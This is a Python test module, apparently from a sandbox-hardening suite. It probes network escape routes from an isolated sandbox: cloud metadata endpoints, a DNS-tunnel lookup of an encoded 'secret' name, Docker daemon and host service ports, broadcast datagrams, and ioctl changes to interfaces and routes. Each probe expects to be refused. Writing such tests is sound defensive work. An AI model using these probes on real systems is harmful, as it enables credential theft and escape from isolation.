"""The network as a way out. Every case first sees that the sandbox has no interface but `lo`, and sends nothing if it has."""

from qflow_runner.attack.probe import cases

SUITE = "hostile: network"

ALONE = '''
def alone():
    """Whether there is no way out at all: only then is anything tried."""
    with open("/proc/net/dev") as file:
        others = [line.split(":")[0].strip() for line in file.read().splitlines()[2:]]
    others = [name for name in others if name != "lo"]
    if others:
        harm.append("interfaces: " + ", ".join(others))
    return not others


def dialled(where, port):
    import socket
    with socket.create_connection((where, port), 2) as connection:
        return connection.getpeername()
'''

CASES = cases(
    SUITE,
    [
        (
            name,
            ALONE + code,
        )
        for name, code in [
            (
                "metadata services of clouds",
                """
def attack(hints: dict) -> dict:
    if alone():
        for where in ("169.254.169.254", "fd00:ec2::254", "100.100.100.200", "192.0.0.192"):
            refused(where, lambda: dialled(where, 80))
        refused("name", lambda: dialled("metadata.google.internal", 80))
    return end()
""",
            ),
            (
                "names are resolved nowhere (tunnel over DNS)",
                """
def attack(hints: dict) -> dict:
    import socket
    if alone():
        refused("getaddrinfo", lambda: socket.getaddrinfo("c2VjcmV0.example.org", 80))
        for where in ("127.0.0.11", "127.0.0.53", "8.8.8.8"):
            def asked():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as question:
                    question.settimeout(1)
                    question.connect((where, 53))
                    question.send(bytes.fromhex("abcd01000001000000000000076578616d706c65036f72670000010001"))
                    return question.recv(512)
            refused(where, asked)
    return end()
""",
            ),
            (
                "the runner's own port and other services of the host",
                """
def attack(hints: dict) -> dict:
    if alone():
        for where in ("127.0.0.1", "::1", "0.0.0.0", "172.17.0.1", "host.docker.internal", "gateway.docker.internal"):
            for port in (hints["port"], 22, 2375, 2376, 5432, 6379, 5678):
                refused("%s:%d" % (where, port), lambda: dialled(where, port))
    return end()
""",
            ),
            (
                "datagrams, multicast and other protocols",
                """
def attack(hints: dict) -> dict:
    import socket
    if alone():
        for where in ("8.8.8.8", "224.0.0.1", "255.255.255.255", "10.0.0.1"):
            def sent():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
                    way.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                    return way.sendto(b"x", (where, 9))
            refused(where, sent)
        refused("sctp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132))
    return end()
""",
            ),
            (
                "interfaces and routes cannot be made",
                """
def attack(hints: dict) -> dict:
    import fcntl, socket, struct
    if alone():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
            refused("address", lambda: fcntl.ioctl(way, 0x8916, struct.pack("16sH2s4s8s", b"lo", 2, b"", bytes([10, 0, 0, 9]), b"")))
            refused("down", lambda: fcntl.ioctl(way, 0x8914, struct.pack("16sh14s", b"lo", 0, b"")))
            refused("route", lambda: fcntl.ioctl(way, 0x890B, bytes(120)))
        refused("tun", lambda: os.open("/dev/net/tun", os.O_RDWR))
    return end()
""",
            ),
        ]
    ],
)
